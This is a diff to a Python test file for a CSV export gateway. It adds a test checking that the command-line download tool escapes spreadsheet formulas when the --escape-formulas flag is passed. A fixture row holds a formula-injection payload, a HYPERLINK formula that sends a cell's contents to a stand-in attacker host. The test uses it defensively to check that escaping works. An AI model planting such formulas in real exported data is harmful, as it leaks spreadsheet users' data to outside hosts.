@@ -10,9 +10,12 @@ from __future__ import annotations
 
 import asyncio
 import gzip
+import os
+import subprocess
 import time
 import uuid
 from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
 
 import httpx
 import pytest
@@ -21,9 +24,10 @@ from fastapi import FastAPI
 from fastapi.responses import Response, StreamingResponse
 
 from app.platform.localredis import LocalRedis
-from tests.support import KEYS, ServerThread, Stack, running_stack, wait_for
+from tests.support import KEYS, ROOT, ServerThread, Stack, running_stack, wait_for
 
 DEADLINE_SECONDS = 4
+CLI = ROOT / ".venv" / "bin" / "export-gateway"
 HEADER = b"id,signer_id,created_time,custom_data.notes\n"
 FORMULA_ROWS = (
     b'1,s1,2026-01-01,=HYPERLINK("http://evil.example/?"&A1)\n'
@@ -234,3 +238,21 @@ async def test_one_client_holding_downloads_open_never_blocks_another_clients_do
     assert statuses.count(429) == 96, statuses
     refused = next(r for r in opened if r.status_code == 429)
     assert int(refused.headers["retry-after"]) >= 1
+
+
+async def test_the_cli_downloads_with_escaped_formulas_when_asked(
+    gateway: Stack, sandbox: httpx.Client, files: ServerThread, tmp_path: Path
+) -> None:
+    export_id = await completed_export(gateway, sandbox, f"{files.url}/formula", "alice")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
+    outputs = {}
+    for name, flags in (("plain", []), ("escaped", ["--escape-formulas"])):
+        target = tmp_path / f"{name}.csv"
+        result = subprocess.run(
+            [str(CLI), "download", export_id, "-o", str(target), "-q", *flags,
+             "--url", gateway.api_url, "--key", KEYS["alice"]],
+            capture_output=True, text=True, timeout=60, check=False, env=env,
+        )  # fmt: skip
+        assert result.returncode == 0, result.stderr
+        outputs[name] = target.read_bytes()
+    assert outputs == {"plain": HEADER + FORMULA_ROWS, "escaped": HEADER + ESCAPED_ROWS}
